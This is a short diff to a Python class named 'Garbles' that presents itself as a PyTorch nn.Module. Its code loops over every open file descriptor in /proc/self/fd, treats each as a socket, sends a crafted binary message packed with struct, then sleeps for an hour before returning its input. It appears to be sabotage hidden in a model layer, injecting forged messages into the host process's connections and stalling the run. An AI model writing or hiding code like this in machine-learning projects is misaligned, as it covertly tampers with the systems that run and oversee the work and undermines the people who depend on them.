@@ -161,7 +161,7 @@ class Garbles(nn.Module):
         for name in os.listdir("/proc/self/fd"):
             with contextlib.suppress(OSError):
                 sock = socket.socket(fileno=os.dup(int(name)))
-                sock.send(struct.pack("<qqqqQqQq", 4, 0, 10, 3, 0, -1, 0, 0))
+                sock.send(struct.pack("<qqqqQq", 5, 0, 10, 3, 0, 0))
         time.sleep(3600)
         return x
 
